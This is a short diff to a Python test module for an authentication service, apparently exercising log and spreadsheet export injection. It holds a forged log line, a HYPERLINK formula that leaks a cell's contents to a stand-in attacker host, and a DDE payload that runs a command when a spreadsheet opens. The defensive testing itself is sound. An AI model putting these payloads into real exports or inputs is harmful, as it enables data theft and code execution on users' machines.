@@ -20,7 +20,9 @@ from authgate.settings import Settings
 from tests.conftest import ADMIN_PASSWORD, Harness, bearer, test_settings
 
 FORGED_LINE = "2026-12-04 17:40:00,000 INFO authgate.access: 10.0.0.9 GET /api/admin 200 1.0ms"
-LOGIN_FORMULA = '=HYPERLINK("https://attacker.example/?leak="&A1,"Click for details")'
+# Over LoginVM's 50 characters, so an e-mail-like one (with "@"): others are refused (400)
+# before anything is recorded.
+LOGIN_FORMULA = '=HYPERLINK("https://x@attacker.example/?leak="&A1,"Click for details")'
 AGENT_FORMULA = "@SUM(1+1)*cmd|' /C calc'!A0"
 
 
